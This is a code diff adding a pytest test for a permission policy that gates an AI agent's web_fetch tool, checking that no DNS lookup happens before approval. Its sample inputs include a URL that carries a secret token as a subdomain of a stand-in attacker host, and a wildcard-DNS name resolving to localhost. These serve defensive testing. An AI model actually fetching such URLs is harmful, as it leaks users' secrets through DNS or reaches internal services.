@@ -220,3 +220,21 @@ def test_resolver_failure_is_not_a_pass(monkeypatch: pytest.MonkeyPatch) -> None
 def test_web_fetch_without_a_url_is_not_allowed(workspace: str) -> None:
     for args in ({}, {"url": ""}, {"url": 42}):
         assert evaluate("web_fetch", args, workspace=workspace, resolve_dns=False).decision == "ask"
+
+
+def test_evaluate_resolves_no_dns_name_before_approval(tmp_path, monkeypatch):
+    """A rejected web_fetch to https://<secret>.attacker.example must not have leaked the secret
+    through a DNS query: the policy judges host names by their text."""
+    import socket
+
+    from cairn.policy import evaluate
+
+    def no_lookups(*args, **kwargs):
+        raise AssertionError(f"DNS lookup during evaluation: {args}")
+
+    monkeypatch.setattr(socket, "getaddrinfo", no_lookups)
+    monkeypatch.setattr(socket, "gethostbyname", no_lookups)
+    verdict = evaluate("web_fetch", {"url": "https://s3cr3t-t0ken.attacker.example/x"}, workspace=tmp_path)
+    assert verdict.decision == "ask"
+    verdict = evaluate("web_fetch", {"url": "http://127.0.0.1.nip.io/"}, workspace=tmp_path)
+    assert verdict.decision == "deny"  # wildcard-DNS names are still judged by their text
